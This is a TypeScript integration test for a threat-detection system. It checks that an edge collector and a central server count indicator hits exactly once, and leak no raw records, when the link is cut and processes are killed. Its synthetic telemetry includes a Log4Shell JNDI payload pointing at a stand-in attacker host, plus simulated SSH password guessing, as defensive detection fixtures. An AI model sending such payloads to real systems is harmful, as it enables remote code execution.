/**
 * A real center and a real edge, with a line between them that is cut for an hour of traffic. The edge is killed while
 * telemetry comes in, and between its sending and the center's answer; the center is killed after it has taken and
 * before it has answered. In the end every hit is counted, once; meanwhile the edge went on matching, also after starts
 * without the center; and no byte that left had a record in it, nor any that came another member. The center's rules and
 * detectors run at the edge: what they find is found once and warns as if it had been found at the center, and what a
 * detector had seen before a kill counts after it.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { createServer, type IncomingMessage, request, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { join, resolve } from "node:path";
import { createInterface } from "node:readline";
import { afterAll, expect, test } from "vitest";
import {
  askCenter,
  breakwaterJson,
  newFolder,
  type RunningCenter,
  removeFolder,
  startCenter,
} from "../journeys/center.js";

const main = resolve(import.meta.dirname, "../../dist/cli/main.js");
const folder = newFolder();
const data = join(folder, "center");
const edgeData = join(folder, "edge");
const minutes = 60;
const linesPerMinute = 400;
const hostileEvery = 40;
const startS = 1_795_000_200;
/** In every record, and in nothing that may leave. */
const rawMark = "RawRecordMark";

interface RunningEdge {
  readonly address: string;
  readonly process: ChildProcess;
  kill(): Promise<void>;
}

/** The line: it carries, cuts, or does something after the center has answered and before the edge has heard it. */
class Line {
  target = "";
  isCut = false;
  /** Called once, with the center's answer to an upload in hand. */
  beforeAnswer: (() => Promise<void>) | null = null;
  up = "";
  down = "";
  uploads = 0;
  readonly #server = createServer((asked, answer) => void this.#carry(asked, answer));

  async open(): Promise<string> {
    await new Promise<void>((done) => this.#server.listen(0, "127.0.0.1", done));
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  close(): void {
    this.#server.close();
    this.#server.closeAllConnections();
  }

  async #carry(asked: IncomingMessage, answer: ServerResponse): Promise<void> {
    const body: Buffer[] = [];
    try {
      for await (const chunk of asked) body.push(chunk as Buffer);
      const sent = Buffer.concat(body);
      this.up += `${asked.url} ${JSON.stringify(asked.headers)} ${sent.toString("latin1")}\n`;
      if (this.isCut) return void asked.socket.destroy();
      const heard = await this.#ask(asked.method ?? "GET", asked.url ?? "/", asked.headers, sent);
      if (asked.url === "/edge/sightings") {
        this.uploads++;
        const before = this.beforeAnswer;
        this.beforeAnswer = null;
        if (before !== null) {
          await before();
          return void asked.socket.destroy();
        }
      }
      this.down += heard.body.toString("latin1");
      answer.writeHead(heard.status, { "content-type": "application/x-ndjson" }).end(heard.body);
    } catch {
      asked.socket.destroy();
    }
  }

  #ask(
    method: string,
    path: string,
    headers: object,
    sent: Buffer,
  ): Promise<{ status: number; body: Buffer }> {
    return new Promise((done, refuse) => {
      const own = { ...headers, host: new URL(this.target).host, "accept-encoding": "identity" };
      const out = request(new URL(path, this.target), { method, headers: own, agent: false }, (heard) => {
        const parts: Buffer[] = [];
        heard.on("data", (part: Buffer) => parts.push(part));
        heard.on("end", () => done({ status: heard.statusCode ?? 0, body: Buffer.concat(parts) }));
        heard.on("error", refuse);
      });
      out.on("error", refuse);
      out.end(sent);
    });
  }
}

async function startEdge(center: string): Promise<RunningEdge> {
  const child = spawn(
    process.execPath,
    [
      main,
      "edge",
      "--center",
      center,
      "--token-file",
      join(folder, "token"),
      "--data",
      edgeData,
      "--port",
      "0",
      "--syslog-port",
      "0",
      "--json",
    ],
    { stdio: ["ignore", "pipe", "pipe"], env: { ...process.env, BREAKWATER_LOG: "warn" } },
  );
  let said = "";
  child.stderr.on("data", (part: Buffer) => {
    said = `${said}${part.toString()}`.slice(-20_000);
  });
  const ended = new Promise<void>((done) => child.once("exit", () => done()));
  for await (const line of createInterface({ input: child.stdout })) {
    const { type, address } = JSON.parse(line) as { type: string; address: string };
    if (type !== "ready") continue;
    child.stdout.resume();
    return {
      address,
      process: child,
      kill: () => {
        child.kill("SIGKILL");
        return ended;
      },
    };
  }
  throw new Error(`the edge ended before it was ready:\n${said}`);
}

interface Status {
  readonly hits: number;
  readonly exchange: { readonly trouble: string };
  readonly set: { readonly indicators: number };
  readonly detection: { readonly version: string; readonly rules: number };
  readonly outbox: { readonly bytes: number; readonly dropped: number };
}
interface Found {
  readonly rule: { readonly title: string };
  readonly subject: { readonly value: string } | null;
  readonly count: number;
}
const statusOf = async (edge: RunningEdge): Promise<Status> =>
  (await (await fetch(`${edge.address}/status.json`)).json()) as Status;

const attacker = "198.51.100.77";
const guesser = "198.51.100.88";
/** Both are taken in while the edge is killed; of the log-ins some come before and some after. */
const attackMinute = 30;
const guesses = { from: 15, to: 21, perMinute: 4 };

/** A request that a rule knows, and log-ins of which a detector says when there are ten, and again at twenty. */
function attacks(minute: number): readonly object[] {
  const from = (source: string, line: number) => ({
    ts: startS + minute * 60 + line,
    uid: `${rawMark}${minute}y${line}`,
    "id.orig_h": source,
    "id.orig_p": 50_000 + line,
    "id.resp_h": "192.0.2.2",
  });
  const uri = `/?q=\${jndi:ldap://${attacker}/a}`;
  return [
    ...(minute === attackMinute
      ? [{ _path: "http", ...from(attacker, 1), "id.resp_p": 80, method: "GET", host: "192.0.2.2", uri }]
      : []),
    ...(minute < guesses.from || minute > guesses.to
      ? []
      : Array.from({ length: guesses.perMinute }, (_, line) => ({
          _path: "ssh",
          ...from(guesser, line),
          "id.resp_p": 22,
          auth_success: false,
          auth_attempts: 1,
        }))),
  ];
}

const telemetry = (minute: number): string =>
  `${[
    ...attacks(minute).map((record) => JSON.stringify(record)),
    ...Array.from({ length: linesPerMinute }, (_, line) =>
      JSON.stringify({
        _path: "conn",
        ts: startS + minute * 60 + line / 10,
        uid: `${rawMark}${minute}x${line}`,
        "id.orig_h": `192.0.2.${line % 5}`,
        "id.orig_p": 40_000 + line,
        "id.resp_h": line % hostileEvery === 0 ? "203.0.113.66" : "198.51.100.9",
        "id.resp_p": 443,
        proto: "tcp",
      }),
    ),
  ].join("\n")}\n`;

async function post(edge: RunningEdge, minute: number): Promise<number> {
  const answer = await fetch(`${edge.address}/ingest`, {
    method: "POST",
    headers: { "x-breakwater-batch": `minute-${minute}`, "x-breakwater-origin": "conn.log" },
    body: telemetry(minute),
  });
  await answer.text();
  return answer.status;
}

const line = new Line();
afterAll(() => {
  line.close();
  removeFolder(folder);
});

test("an hour without the center and kills on both sides: every hit counts, once, and no record leaves", async () => {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, "feed.txt"), "203.0.113.66\nevil.example\n");
  let center: RunningCenter = await startCenter(data);
  line.target = center.address;
  const at = await line.open();
  breakwaterJson(["intel", "import", join(folder, "feed.txt"), "--confidence", "90", "--data", data]);
  for (const [name, network] of [
    ["Pier 7", "192.0.2.0/24"],
    ["Secretive Lines", "198.51.100.128/25"],
  ] as const)
    breakwaterJson([
      "member",
      "add",
      name,
      "--sector",
      "terminal operator",
      "--network",
      network,
      "--data",
      data,
    ]);
  const { token } = breakwaterJson<{ token: string }>([
    "token",
    "add",
    "--member",
    "Pier 7",
    "--name",
    "edge",
    "--scope",
    "edge",
    "--data",
    data,
  ]);
  writeFileSync(join(folder, "token"), token);
  let edge = await startEdge(at);
  await expect.poll(async () => (await statusOf(edge)).set.indicators, { timeout: 60_000 }).toBe(2);
  expect((await statusOf(edge)).detection.rules).toBeGreaterThan(30);

  line.isCut = true;
  for (let minute = 0; minute < minutes; minute++) {
    const sending = post(edge, minute).catch(() => 0);
    if (minute % 12 === 6) {
      // At some point of its taking this minute in; the sender can't know whether it was taken.
      await new Promise((done) => setTimeout(done, minute % 5));
      await edge.kill();
      await sending;
      edge = await startEdge(at);
      expect((await statusOf(edge)).set.indicators).toBe(2);
      expect(await post(edge, minute)).toBe(200);
    } else expect(await sending).toBe(200);
    if (minute % 7 === 0) expect(await post(edge, minute)).toBe(200);
  }
  const away = await statusOf(edge);
  expect(away.hits).toBeGreaterThan(0);
  expect(away.outbox.bytes).toBeGreaterThan(0);
  expect(away.exchange.trouble).not.toBe("");
  expect(line.uploads).toBe(0);

  let killed = 0;
  line.beforeAnswer = async () => {
    killed++;
    await edge.kill();
  };
  line.isCut = false;
  await expect.poll(() => killed, { timeout: 90_000 }).toBe(1);
  edge = await startEdge(at);
  line.beforeAnswer = async () => {
    killed++;
    await center.kill("SIGKILL");
  };
  await expect.poll(() => killed, { timeout: 90_000 }).toBe(2);
  center = await startCenter(data);
  line.target = center.address;

  const wanted = (minutes * linesPerMinute) / hostileEvery;
  await expect
    .poll(() => askCenter<object>(data, "GET", "/totals"), { timeout: 120_000, interval: 1000 })
    .toMatchObject({ sighted: wanted, warnings: 2, events: 0 });
  await expect.poll(async () => (await statusOf(edge)).outbox.bytes, { timeout: 60_000 }).toBe(0);
  expect((await statusOf(edge)).outbox.dropped).toBe(0);
  // What was sent again by either side is known: it stays what it is.
  expect(await post(edge, 3)).toBe(200);
  expect(breakwaterJson<object>(["totals", "--data", data])).toMatchObject({ sighted: wanted });
  const found = breakwaterJson<{ rows: readonly Found[] }>(["detection", "list", "--data", data]).rows;
  expect(
    found.map(({ rule, subject, count }) => `${rule.title}, ${subject?.value}: ${count}`).sort(),
  ).toEqual([
    `Log4Shell: a request asks Log4j to load code, ${attacker}: 1`,
    `Passwords are tried, ${guesser}: 20`,
  ]);
  expect(line.up).not.toContain(rawMark);
  expect(line.up).not.toContain("198.51.100.9");
  expect(line.down).not.toContain("Secretive");
  expect(line.down).toContain("evil.example");
  await edge.kill();
  await center.kill("SIGTERM");
});
